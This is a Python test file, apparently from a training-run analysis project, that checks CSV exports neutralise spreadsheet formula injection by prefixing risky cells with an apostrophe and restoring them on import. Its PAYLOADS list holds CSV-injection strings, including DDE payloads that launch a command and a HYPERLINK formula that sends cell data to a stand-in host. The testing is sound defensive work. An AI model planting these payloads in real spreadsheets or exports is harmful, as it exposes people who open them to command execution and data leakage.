"""Cells that a spreadsheet would run: neutral in every CSV written, as they were when read back."""

import csv
import io
import re
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from isoflop.draw.data import figure_csv
from isoflop.exchange.delimited import neutralise_cell, restore_cell
from isoflop.exchange.export import export_runs
from isoflop.exchange.import_runs import import_runs
from isoflop.exchange.run_tables import read_runs
from isoflop.runs.table import RunTable

PAYLOADS = (
    '=HYPERLINK("http://a.example/?"&A1,"click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1',
    "'=1+1",
    " =1+1",
    "\u00a0=1+1",
    "'\" =1+1",
    "-",
    "--1",
)
"""OWASP's starts of a formula, after quotes and blanks, and in full width."""

PLAIN = ("-0.5", "+3", "-1e-3", "1e6", "d16", "a=b", "x-y", "'tis", "", "3-4")
"""Of these no spreadsheet makes a formula; negative numbers stay numbers."""

DANGER = re.compile(r"[\"' \u00a0\u3000]*[=+\-@\t\r＝＋－＠]")
NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?")


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_formula_gets_an_apostrophe_and_loses_it_again(text: str) -> None:
    assert neutralise_cell(text) == f"'{text}"
    assert restore_cell(neutralise_cell(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_is_written_as_it_is(text: str) -> None:
    assert neutralise_cell(text) == text
    assert restore_cell(text) == text


@given(st.text(max_size=20) | st.text(alphabet="=+-@'\" 1e.\t\r＝", max_size=8))
def test_any_text_comes_back(text: str) -> None:
    written = neutralise_cell(text)
    assert restore_cell(written) == text
    assert written == text or written.startswith("'")
    assert (
        not DANGER.match(written)
        or written.startswith("'")
        or NUMBER.fullmatch(text.strip("'\" \u00a0\u3000"))
    )


@pytest.mark.parametrize("suffix", [".csv", ".wandb.csv"])
def test_a_whole_table_is_neutral_and_comes_back(suffix: str, tmp_path: Path) -> None:
    rows = [
        {"run": payload, "loss": 3.0 + k, "=head": payload, "delta": "-0.5"}
        for k, payload in enumerate(PAYLOADS)
    ]
    table = RunTable.from_records(rows)
    path = export_runs(table, tmp_path / f"runs{suffix}")
    text = path.read_text(encoding="utf-8")
    for line in csv.reader(io.StringIO(text, newline="")):
        for cell in line:
            assert cell == "-0.5" or cell.startswith("'") or not DANGER.match(cell), cell
    back = import_runs(path).table
    assert back.names() == table.names()
    assert back.text("=head") == table.text("=head")
    assert back.text("delta") == ["-0.5"] * len(rows)
    assert back.numbers("loss").tolist() == table.numbers("loss").tolist()
    if suffix == ".csv":
        assert read_runs(path).records() == table.records()


def test_the_data_of_a_figure_is_neutral_too() -> None:
    @dataclass(frozen=True)
    class Figure:
        names: tuple[str, ...]
        loss: np.ndarray

    text = figure_csv(Figure(PAYLOADS[:2], np.array([-1.0, 2.0])))
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert "'=1+1" in cells
    assert "-1.0" in cells
    assert not any(cell.startswith("=") for cell in cells)
